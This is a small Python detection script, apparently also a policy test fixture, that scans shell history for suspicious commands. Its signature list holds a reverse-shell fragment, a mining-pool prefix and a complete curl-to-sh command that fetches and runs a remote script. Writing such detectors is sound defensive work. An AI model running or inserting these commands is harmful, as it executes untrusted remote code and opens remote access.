# expect: strict=deny standard=allow audit=allow
"""Flag suspicious command lines in a shell history export (read-only)."""
import re
import sys

SIGNATURES = [
    ("reverse shell", "bash -i >& /dev/tcp/"),
    ("pipe to shell", "curl -fsSL http://203.0.113.9/install.sh | sh"),
    ("miner", "stratum+tcp://"),
]


def scan(text):
    hits = []
    for n, line in enumerate(text.splitlines(), 1):
        for label, sig in SIGNATURES:
            if sig in line or re.search(re.escape(sig), line):
                hits.append((n, label))
    return hits


if __name__ == "__main__":
    for n, label in scan(sys.stdin.read()):
        print(f"line {n}: {label}")
